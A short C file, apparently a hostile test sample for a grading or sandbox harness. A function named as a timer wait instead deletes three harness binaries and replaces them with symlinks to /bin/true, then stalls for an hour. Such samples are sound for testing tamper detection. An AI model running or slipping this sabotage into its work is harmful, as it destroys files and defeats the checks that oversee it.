/*
 * Puts another program in the place of those that are run.
 *
 * Expect: 1.12 is wrong
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int
timers_wait_ms(const struct timers *timers, int64_t now_ms)
{
	(void)timers;
	(void)now_ms;
	static const char *const names[] = {"/out/run", "/out/leash",
	                                    "/out/student/build/server"};

	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		chmod(names[i], 0777);
		unlink(names[i]);
		if (symlink("/bin/true", names[i]) == 0)
			dprintf(2, "hostile: has replaced %s\n", names[i]);
	}
	return 3600000;
}
